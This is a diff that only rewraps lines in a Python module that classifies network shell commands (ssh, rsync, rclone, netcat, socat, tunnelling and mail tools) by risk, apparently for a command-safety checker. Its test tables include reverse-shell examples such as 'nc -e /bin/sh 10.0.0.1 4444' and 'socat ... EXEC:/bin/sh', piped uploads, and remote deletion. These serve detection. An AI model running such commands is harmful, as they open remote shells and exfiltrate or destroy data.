@@ -21,7 +21,9 @@ def _ssh(parsed: Parsed, _context: Context) -> Description:
         operations.append(Operation.TUNNEL)
         details.append("tunnel")
     runs_here = any(
-        word.value.lower().replace(" ", "=").startswith(("proxycommand=", "localcommand=", "knownhostscommand="))
+        word.value.lower()
+        .replace(" ", "=")
+        .startswith(("proxycommand=", "localcommand=", "knownhostscommand="))
         for word in parsed.values("o")
     )
     if runs_here:
@@ -133,7 +135,9 @@ def _rclones(parsed: Parsed, context: Context) -> Description:
             known=True,
             operations=(Operation.DELETE, *((Operation.CONNECT,) if remote else ())),
             targets=tuple(
-                Target(Access.DELETE, word, recursive=True) for word in rest.operands if not is_remote(word.value)
+                Target(Access.DELETE, word, recursive=True)
+                for word in rest.operands
+                if not is_remote(word.value)
             ),
             contacts=tuple(Contact(NetAction.CONNECT, word) for word in remote),
             details=("cloud-loss",) if remote else ("recursive",),
@@ -144,7 +148,9 @@ def _rclones(parsed: Parsed, context: Context) -> Description:
         return Description(
             known=True,
             operations=(Operation.CONNECT, Operation.FETCH),
-            contacts=tuple(Contact(NetAction.DOWNLOAD, word) for word in rest.operands[:1] if is_remote(word.value)),
+            contacts=tuple(
+                Contact(NetAction.DOWNLOAD, word) for word in rest.operands[:1] if is_remote(word.value)
+            ),
         )
     return Description(known=True, operations=(Operation.CONNECT,))
 
@@ -191,7 +197,8 @@ def _netcats(parsed: Parsed, _context: Context) -> Description:
         contacts=()
         if sockets
         else tuple(
-            Contact(NetAction.UPLOAD if _context.piped else NetAction.CONNECT, word) for word in _host_port(words)
+            Contact(NetAction.UPLOAD if _context.piped else NetAction.CONNECT, word)
+            for word in _host_port(words)
         ),
         details=(*details, *(("stdin-upload",) if _context.piped else ())),
         reads_stdin=True,
@@ -274,7 +281,9 @@ def _mails(parsed: Parsed, _context: Context) -> Description:
         operations=(Operation.UPLOAD, Operation.CONNECT, *((Operation.READ,) if files else ())),
         targets=aimed(Access.READ, files),
         contacts=tuple(
-            Contact(NetAction.UPLOAD, piece(word, word.value.find("@") + 1)) for word in people if "@" in word.value
+            Contact(NetAction.UPLOAD, piece(word, word.value.find("@") + 1))
+            for word in people
+            if "@" in word.value
         ),
         details=("stdin-upload",),
         uploads=files,
@@ -283,49 +292,163 @@ def _mails(parsed: Parsed, _context: Context) -> Description:
 
 
 _SSH: Final = (
-    "4 6 A a B= b= C c= D= E= e= F= f G g I= i= J= K k L= l= M m= N n O= o= P= p= Q= q R= S= s T t V v W= w= X x Y y"
+    "4 6 A a B= b= C c= D= E= e= F= f G g I= i= J= K k L= l= M m= N n O= o= P= p= Q= q R= S= s T t V v W= "
+    "w= X x Y y"
 )
 _RSYNC: Final = (
-    "~ r,recursive a,archive v,verbose n,dry-run e,rsh= delete,del delete-before delete-during delete-delay delete-after "
-    "delete-excluded delete-missing-args remove-source-files f,filter= exclude= exclude-from= include= include-from= "
-    "files-from= password-file= log-file= out-format= bwlimit= B,block-size= max-size= min-size= T,temp-dir= compare-dest= "
-    "copy-dest= link-dest= port= timeout= contimeout= rsync-path= chmod= chown= backup-dir= suffix= partial-dir= progress "
-    "list-only daemon M,remote-option= info= debug= skip-compress= usermap= groupmap= modify-window= max-delete= sockopts="
+    "~ r,recursive a,archive v,verbose n,dry-run e,rsh= delete,del delete-before delete-during "
+    "delete-delay delete-after "
+    "delete-excluded delete-missing-args remove-source-files f,filter= exclude= exclude-from= include= "
+    "include-from= "
+    "files-from= password-file= log-file= out-format= bwlimit= B,block-size= max-size= min-size= "
+    "T,temp-dir= compare-dest= "
+    "copy-dest= link-dest= port= timeout= contimeout= rsync-path= chmod= chown= backup-dir= suffix= "
+    "partial-dir= progress "
+    "list-only daemon M,remote-option= info= debug= skip-compress= usermap= groupmap= modify-window= "
+    "max-delete= sockopts="
 )
 
 PROGRAMS: Final = (
-    program("ssh autossh dbclient slogin", _SSH, _ssh, {
-        "ssh me@example.com": "connect connect@me@example.com <stdin", "ssh -p 22 -i key example.com uptime -p": "connect metadata:key connect@example.com +remote-command <stdin", "ssh -R 80:localhost:80 example.com": "connect tunnel connect@example.com +tunnel <stdin",
-        "ssh -G example.com": "preview", "ssh -o ProxyCommand=evil example.com": "connect execute connect@example.com +child-command <stdin", "ssh -NL 1:a:2 example.com": "connect tunnel connect@example.com +tunnel <stdin",
-    }, style=Style.LEADING, previews=""),
-    program("scp pscp", "3 4 6 A B C O p q R T v s r,recursive c= D= F= i= J= l= o= P= S= X=", _copies, {
-        "scp a me@example.com:/tmp": "copy connect upload read read:a upload@me@example.com:/tmp upload=a >none", "scp -r example.com:d .": "copy connect fetch write write:. download@example.com:d save=. +recursive >none", "scp a b": "copy read write read:a write:b >none",
-    }, previews=""),
-    program("rsync", _RSYNC, _rsyncs, {
-        "rsync -a src/ dst": "copy read write read:src//** write:dst +recursive >none", "rsync -av --delete src/ dst/": "copy read write delete read:src//** write:dst/ delete:dst//** +recursive +mirror-delete", "rsync -az . me@example.com:/srv": "copy connect upload read read:./** upload@me@example.com:/srv upload=. +recursive >none",
-        "rsync -an --delete a b": "preview", "rsync rsync://example.com/x .": "copy connect fetch write write:. download@rsync://example.com/x save=. >none", "rsync -e 'ssh -p 1' a example.com:b": "copy connect upload read read:a upload@example.com:b upload=a +child-command >none",
-    }),
-    program("rclone", "~ n,dry-run config= include= exclude= transfers= filter=", _rclones, {
-        "rclone copy . remote:b": "copy connect upload read read:. upload@remote:b upload=. >none", "rclone purge remote:b": "delete connect connect@remote:b +cloud-loss", "rclone sync a remote:b": "copy connect upload read delete read:a upload@remote:b upload=a +remote-loss", "rclone config show": "credential_read",
-    }),
-    program("sftp ftp lftp ncftp tftp telnet mosh psftp plink ftpget ftpput rlogin rsh", "~ b= B= c= D= F= i= J= l= o= P= R= S= s= p= u= e=",
-        _sftps, {"sftp me@example.com": "connect connect@me@example.com <stdin", "telnet example.com 23": "connect connect@example.com <stdin", "lftp -e cmds example.com": "connect connect@example.com +opaque-code <stdin"}),
+    program(
+        "ssh autossh dbclient slogin",
+        _SSH,
+        _ssh,
+        {
+            "ssh me@example.com": "connect connect@me@example.com <stdin",
+            "ssh -p 22 -i key example.com uptime -p": (
+                "connect metadata:key connect@example.com +remote-command <stdin"
+            ),
+            "ssh -R 80:localhost:80 example.com": "connect tunnel connect@example.com +tunnel <stdin",
+            "ssh -G example.com": "preview",
+            "ssh -o ProxyCommand=evil example.com": (
+                "connect execute connect@example.com +child-command <stdin"
+            ),
+            "ssh -NL 1:a:2 example.com": "connect tunnel connect@example.com +tunnel <stdin",
+        },
+        style=Style.LEADING,
+        previews="",
+    ),
+    program(
+        "scp pscp",
+        "3 4 6 A B C O p q R T v s r,recursive c= D= F= i= J= l= o= P= S= X=",
+        _copies,
+        {
+            "scp a me@example.com:/tmp": (
+                "copy connect upload read read:a upload@me@example.com:/tmp upload=a >none"
+            ),
+            "scp -r example.com:d .": (
+                "copy connect fetch write write:. download@example.com:d save=. +recursive >none"
+            ),
+            "scp a b": "copy read write read:a write:b >none",
+        },
+        previews="",
+    ),
+    program(
+        "rsync",
+        _RSYNC,
+        _rsyncs,
+        {
+            "rsync -a src/ dst": "copy read write read:src//** write:dst +recursive >none",
+            "rsync -av --delete src/ dst/": (
+                "copy read write delete read:src//** write:dst/ delete:dst//** +recursive +mirror-delete"
+            ),
+            "rsync -az . me@example.com:/srv": (
+                "copy connect upload read read:./** upload@me@example.com:/srv upload=. +recursive >none"
+            ),
+            "rsync -an --delete a b": "preview",
+            "rsync rsync://example.com/x .": (
+                "copy connect fetch write write:. download@rsync://example.com/x save=. >none"
+            ),
+            "rsync -e 'ssh -p 1' a example.com:b": (
+                "copy connect upload read read:a upload@example.com:b upload=a +child-command >none"
+            ),
+        },
+    ),
+    program(
+        "rclone",
+        "~ n,dry-run config= include= exclude= transfers= filter=",
+        _rclones,
+        {
+            "rclone copy . remote:b": "copy connect upload read read:. upload@remote:b upload=. >none",
+            "rclone purge remote:b": "delete connect connect@remote:b +cloud-loss",
+            "rclone sync a remote:b": (
+                "copy connect upload read delete read:a upload@remote:b upload=a +remote-loss"
+            ),
+            "rclone config show": "credential_read",
+        },
+    ),
+    program(
+        "sftp ftp lftp ncftp tftp telnet mosh psftp plink ftpget ftpput rlogin rsh",
+        "~ b= B= c= D= F= i= J= l= o= P= R= S= s= p= u= e=",
+        _sftps,
+        {
+            "sftp me@example.com": "connect connect@me@example.com <stdin",
+            "telnet example.com 23": "connect connect@example.com <stdin",
+            "lftp -e cmds example.com": "connect connect@example.com +opaque-code <stdin",
+        },
+    ),
     program(
         "nc ncat netcat nc.openbsd nc.traditional nc.exe",
-        "~ e,exec= c,sh-exec= lua-exec= l,listen p= s= w,wait= i= x= X= q= T= I= O= V= P= M= m= U z g= G= o,output= ssl proxy= proxy-type=",
+        "~ e,exec= c,sh-exec= lua-exec= l,listen p= s= w,wait= i= x= X= q= T= I= O= V= P= M= m= U z g= "
+        "G= o,output= ssl proxy= proxy-type=",
         _netcats,
-        {"nc example.com 80": "connect connect@example.com:80 <stdin", "nc -e /bin/sh 10.0.0.1 4444": "connect execute connect@10.0.0.1:4444 +shell-child <stdin", "nc -lvp 4444": "listen +listener <stdin", "| nc example.com 9": "connect upload upload@example.com:9 +stdin-upload <stdin",
-         "nc -zv localhost 80": "connect connect@localhost:80 +probe", "nc -U /run/x.sock": "connect connect:/run/x.sock <stdin"},
+        {
+            "nc example.com 80": "connect connect@example.com:80 <stdin",
+            "nc -e /bin/sh 10.0.0.1 4444": "connect execute connect@10.0.0.1:4444 +shell-child <stdin",
+            "nc -lvp 4444": "listen +listener <stdin",
+            "| nc example.com 9": "connect upload upload@example.com:9 +stdin-upload <stdin",
+            "nc -zv localhost 80": "connect connect@localhost:80 +probe",
+            "nc -U /run/x.sock": "connect connect:/run/x.sock <stdin",
+        },
     ),
-    program("socat", "~ L= W= t= T= b= lf lp=", _socats, {
-        "socat TCP:example.com:80 EXEC:/bin/sh": "connect execute connect@example.com:80 +shell-child", "socat TCP-LISTEN:80,fork TCP:localhost:8080": "listen connect connect@localhost:8080 +listener", "socat - UNIX-CONNECT:/run/a": "connect:/run/a <stdin",
-    }),
-    program("ngrok cloudflared localtunnel lt bore chisel frpc frps gost tailscale wg-quick openvpn iodine dnscat ptunnel "
+    program(
+        "socat",
+        "~ L= W= t= T= b= lf lp=",
+        _socats,
+        {
+            "socat TCP:example.com:80 EXEC:/bin/sh": "connect execute connect@example.com:80 +shell-child",
+            "socat TCP-LISTEN:80,fork TCP:localhost:8080": "listen connect connect@localhost:8080 +listener",
+            "socat - UNIX-CONNECT:/run/a": "connect:/run/a <stdin",
+        },
+    ),
+    program(
+        "ngrok cloudflared localtunnel lt bore chisel frpc frps gost tailscale wg-quick openvpn iodine "
+        "dnscat ptunnel "
         "ligolo proxychains proxychains4 tor sshuttle zrok pagekite",
-        "~ c= config= authtoken= region= p,port= r,remote=", _tunnels, {"ngrok http 80": "tunnel connect +tunnel", "chisel client example.com R:80": "tunnel connect tunnel@example.com +tunnel"}),
-    program("ssh-copy-id", "f n s i= p= o= F= t=", _copies_key, {"ssh-copy-id -i k me@example.com": "connect config_change metadata:k connect@me@example.com +remote-command"}),
-    program("mail mailx mutt s-nail sendmail msmtp swaks", "~ s= c= b= r= a,attach,A= attachment= to= from= server= body= f= F= q= S= t",
-        _mails, {"mail -s x me@example.com": "upload connect upload@example.com +stdin-upload <stdin", "mutt -a f -- me@example.com": "upload connect read read:f upload@example.com upload=f +stdin-upload <stdin"}),
-    program("websocat wscat grpcurl wormhole magic-wormhole croc smbclient sshfs curlftpfs mount.nfs mount.cifs transmission-cli "
-        "gnutls-cli iperf iperf3", "~", acts(Operation.CONNECT), {"croc send a": "connect"}),
+        "~ c= config= authtoken= region= p,port= r,remote=",
+        _tunnels,
+        {
+            "ngrok http 80": "tunnel connect +tunnel",
+            "chisel client example.com R:80": "tunnel connect tunnel@example.com +tunnel",
+        },
+    ),
+    program(
+        "ssh-copy-id",
+        "f n s i= p= o= F= t=",
+        _copies_key,
+        {
+            "ssh-copy-id -i k me@example.com": (
+                "connect config_change metadata:k connect@me@example.com +remote-command"
+            )
+        },
+    ),
+    program(
+        "mail mailx mutt s-nail sendmail msmtp swaks",
+        "~ s= c= b= r= a,attach,A= attachment= to= from= server= body= f= F= q= S= t",
+        _mails,
+        {
+            "mail -s x me@example.com": "upload connect upload@example.com +stdin-upload <stdin",
+            "mutt -a f -- me@example.com": (
+                "upload connect read read:f upload@example.com upload=f +stdin-upload <stdin"
+            ),
+        },
+    ),
+    program(
+        "websocat wscat grpcurl wormhole magic-wormhole croc smbclient sshfs curlftpfs mount.nfs "
+        "mount.cifs transmission-cli "
+        "gnutls-cli iperf iperf3",
+        "~",
+        acts(Operation.CONNECT),
+        {"croc send a": "connect"},
+    ),
 )
